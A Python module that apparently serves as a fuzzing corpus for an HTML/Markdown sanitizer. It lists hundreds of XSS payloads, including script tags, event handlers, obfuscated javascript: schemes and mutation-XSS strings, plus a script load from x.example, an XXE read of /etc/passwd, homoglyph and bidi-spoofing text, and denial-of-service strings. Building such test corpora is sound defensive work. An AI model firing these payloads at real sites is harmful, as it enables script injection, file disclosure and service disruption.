"""Hostile text by class, written for this project. CLASSES: the name of the class, and its payloads."""
import itertools

CALLS = "alert(1)"
FILL = "javascript:alert(1)"

TAGS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>", "</script><script>alert(1)</script>", "<script>alert(1)",
    "<script>alert(1)//", "<<script>alert(1);//<</script>", "<script type=module>alert(1)</script>",
    "\x00<script>alert(1)</script>", "<s\x00cript>alert(1)</s\x00cript>", "<script >alert(1)</script >",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1) type=submit>",
    "<base href=javascript:/alert(1)//>", "<link rel=import href=x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'javascript:alert(1)'</style>", "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style=width:expression(alert(1))>", "<p style=\"background:url('javascript:alert(1)')\">",
    "<frameset onload=alert(1)>", "<portal src=javascript:alert(1)>", "<body onload=alert(1)>",
    "<table background=javascript:alert(1)>", "<xml id=x><x>alert(1)</x></xml>", "<marquee onstart=alert(1)>",
    "<dialog open onclose=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)&#x3c/script&#x3e",
    "\\x3cscript\\x3ealert(1)", "\\<script>alert(1)\\</script>",
]
HANDLERS = [
    template.format(event=event) for event, template in itertools.product(
        ["onerror", "onload", "onmouseover", "onfocus", "onclick", "onpointerenter", "onanimationstart",
         "ontoggle"],
        ["<img src=x {event}=alert(1)>", "<svg/{event}=alert(1)>", "<a href=x\n{event}\n=\nalert(1)>x</a>",
         "<details open {event}='alert(1)'>x</details>", "<input autofocus {event}=\"alert(1)\">",
         "<x {event}=alert(1) tabindex=1 id=x>x</x>"])
] + [
    "<img src='x'onerror='alert(1)'>", "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x:alert(1) onerror=eval(src)>", "<img/src/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>", "<img src=x onerror\x0c=alert(1)>", "<img src=`x` onerror=alert(1)>",
    "<p/onmouseover=alert(1)>x", "<b onmouseover=alert(1)>x</b>", "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>", "<video poster=javascript:alert(1)>",
]
SCHEMES = [
    FILL, "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)",
    " javascript:alert(1)", "\x01javascript:alert(1)", "\x1fjavascript:alert(1)", "javascript\x00:alert(1)",
    "\u00a0javascript:alert(1)", "\u2028javascript:alert(1)", "\ufeffjavascript:alert(1)",
    "java\u00adscript:alert(1)", "java\u200bscript:alert(1)", "javascript\uff1aalert(1)",
    "\uff4aavascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)", "javascript&#0000058alert(1)", "&#106;avascript:alert(1)",
    "&#x6a&#x61vascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "java&#10;script:alert(1)", "javascript%3Aalert(1)", "%6aavascript:alert(1)", "javascript:123",
    "javascript:%61lert(1)", "javascript://x.example/%0aalert(1)",
    "javascript://%0d%0aalert(1)//https://x.example", "vbscript:msgbox(1)", "VBSCRIPT:msgbox(1)",
    "vb\tscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x", "data:image/svg+xml,<svg onload=alert(1)>", "data:image/png;base64,iVBORw0KGgo=",
    "data&colon;text/html,x", "file:///etc/passwd", "blob:https://x.example/1",
    "filesystem:https://x.example/x", "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
    "jar:javascript:alert(1)!/", "about:blank", "ws://x.example", "ftp://x.example/x", "tel:0123",
    "intent://x#Intent;end", "ms-msdt:/id", "x-x:y", "://x.example", "//x.example/x", "///x.example",
    "/\\x.example", "\\\\x.example\\x", "\\/\\/x.example", "/\t/x.example", "https:x.example",
    "https:/x.example", "https:///x.example", "https:\\\\x.example", "https://x.example\\@y.example",
    "https://user@x.example", "https://user:word@x.example", "https://example.org@x.example/",
    "https://%00x.example", "https://x.example%2f@y.example", "https://", "https:// x", "http://[::1",
    "http://x.example:99999999", "http://\u202ex.example", "mailto:", "mailto:x",
    "mailto:x@y.example?body=<script>", "mailto:javascript:alert(1)", "?x=javascript:alert(1)",
    "#javascript:alert(1)", "",
]
LINKS = [
    form.format(address) for address in SCHEMES for form in ("[x]({})", "[x](<{}>)", "<{}>", "![x]({})")
]
RAW_LINKS = [f'<a href="{address}">x</a>' for address in SCHEMES]
MUTATIONS = [
    "<svg><script>alert(1)</script></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    ('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&l'
     't;img src=1 onerror=alert(1)&gt;">'),
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>", "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>", "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><image href='1' onerror='alert(1)'/></svg>#x\">",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>", "<math href=javascript:alert(1)>x</math>",
    "<maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<annotation-xml encoding=text/html><script>alert(1)</script>",
    "<table><tr><td><svg><desc><table><img src=x onerror=alert(1)>",
    "<a><table><a href=javascript:alert(1)>x", "<p><table><p onclick=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<noembed><img src=x onerror=alert(1)></noembed>", "<iframe><!--</iframe><img src onerror=alert(1)>-->",
    "<x-y is=z onload=alert(1)>", "<div id=x><form id=y><input name=attributes></form></div>",
    "<a id=document name=cookie>x</a>",
]
MARKDOWN = [
    '[x](https://x.example "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://x.example '\"><img src=x onerror=alert(1)>')",
    '[x](https://x.example "title" onclick=alert(1))', '[x](https://x.example/"onmouseover="alert(1))',
    "[x](https://x.example/'onmouseover='alert(1))", "[x](https://x.example/`onmouseover=alert(1))",
    "[x](https://x.example/><script>alert(1)</script>)", "[x](<https://x.example/\"onclick=alert(1)//>)",
    "[<img src=x onerror=alert(1)>](https://x.example)", "[<script>alert(1)</script>](https://x.example)",
    "[x]\n\n[x]: javascript:alert(1)", "[x][y]\n\n[y]: <javascript:alert(1)> '\"><script>alert(1)</script>'",
    "[x]: data:text/html,x\n[x]", "[[x](javascript:alert(1))](https://x.example)",
    "[![x](javascript:alert(1))](javascript:alert(1))", "![x](https://x.example/x.png)",
    '![x" onerror="alert(1)](https://x.example/x.png)', "![<script>alert(1)</script>](x)",
    "![x][y]\n\n[y]: https://x.example/track.gif", "[](https://x.example)", "[\u200b](https://x.example)",
    "[ ](https://x.example)", "<https://x.example/\"onclick=alert(1)>",
    "<https://x.example/'><script>alert(1)</script>", "<javascript:alert(1)>",
    "<x@y.example\"onclick=alert(1)>", "https://x.example/\"onmouseover=alert(1)",
    "https://x.example/<script>alert(1)</script>", "https://x.example/'onclick='alert(1)'",
    "https://x.example/&quot;onclick=alert(1)", "www.x.example/\"><script>alert(1)</script>",
    "https://x.example/)onclick=alert(1)", "javascript:alert(1) https://x.example",
    "https://javascript:alert(1)@x.example", "http://http://javascript:alert(1)",
    "https://x.example/%22onclick=alert(1)", "https://x.example/%E2%80%AEgpj.exe",
    "`<script>alert(1)</script>`", "`` ` <img src=x onerror=alert(1)> ``",
    "```\n</code></pre><script>alert(1)</script>\n```", "```\"onmouseover=alert(1)\nx\n```",
    "```html\n<script>alert(1)</script>\n```", "~~~ \"><script>alert(1)</script>\nx\n~~~",
    "    <script>alert(1)</script>", "# <script>alert(1)</script>", "<h1>x</h1>",
    "x\n=\n<script>alert(1)</script>", "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>",
    "|a|\n|-|\n|<script>alert(1)</script>|", "|a|\n|:-:|\n|[x](javascript:alert(1))|", "999999999999. x",
    "3. x\n4. <script>", "**<b onclick=alert(1)>**", "*[x](javascript:alert(1)*)", "~~<s onclick=alert(1)>~~",
    "\\[x](javascript:alert(1))", "[x\\](javascript:alert(1))", "[x](java\\script:alert(1))",
    "[x](javascript\\:alert(1))", "[a](https://x.example)[b](javascript:alert(1))",
    "<a href=\"javascript:alert(1)\n\">*x*</a>", "*<x onclick=alert(1) a=*>", "[`x](javascript:alert(1))`",
    "[x](https://x.example\n\"onclick=alert(1)\")", "<!--\n\n<script>alert(1)</script>\n\n-->",
    "<div>\n\n*x*\n\n<script>alert(1)</script>\n</div>", "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>", "&",
    "&amp", "&lt", "&#0;", "&#xD800;", "&#x110000;", "&#x202e;", "&NewLine;", "&nbsp", "&notit;", "<", "<a",
    "</", "<!", "<?",
]
CHARACTERS = [
    "\x00", "a\x00b", "\x08\x1b[2J", "\x7f\x80\x9f", "\r\n\r", "\x85\u2028\u2029", "\ud800", "a\udfffb",
    "\ud83d\ude00", "\ufffe\uffff", "\U0001fffe", "\ufdd0", "\ufeffx", "\ufff9x\ufffay\ufffb",
    "\u202egnp.exe", "a\u202ab\u202bc\u202cd\u202de", "\u2066a\u2067b\u2068c\u2069",
    "[\u202ex](https://x.example)", "\u200e\u200f\u061c", "\u200b\u200c\u200d\u2060", "\u00ad",
    "e" + "\u0301" * 500, "a" + "\u0301\u0316" * 400, "\u1100\u1161\u11a8", "\u0344" * 50,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\U000e0001\U000e0041",
    "p\u0430ypal \u0391dmin", "\u0410\u0412\u0421", "\u0661\u0662. x", "\u3000x\u3000", "\u1680\u180e",
    "\u2800", "\u115f\u3164", "\ufdfa" * 50, "\u0130\u0131\ufb01",
]
BOMBS = [
    piece * 9_000
    for piece in (">", "> ", "- ", "1) ", "[", "![", "*", "_", "`", "<", "&", "|", "~", "\\", "#", "\n", "@")
] + [
    "".join("  " * depth + "- a\n" for depth in range(90)), "> " * 30 + "x", "- " * 25 + "x",
    "> - " * 15 + "x", "**a " * 900 + "b** " * 900, "[a](" * 1500, "[" * 1500 + "](x)" * 1500, "<div>" * 1500,
    "|a" * 2000 + "\n" + "|-" * 2000 + "\n" + "|a\n" * 500, "a\n\n" * 3000, "x" * 10_001, "x" * 1_000_000,
    "<" * 400 + "script>" * 100, "a" + "\u0316\u0301" * 100_000,
]
CLASSES = {
    "tags": TAGS, "handlers": HANDLERS, "links": LINKS, "raw links": RAW_LINKS, "mutations": MUTATIONS,
    "markdown": MARKDOWN, "characters": CHARACTERS, "bombs": BOMBS,
}
PAYLOADS = list(dict.fromkeys(payload for payloads in CLASSES.values() for payload in payloads))
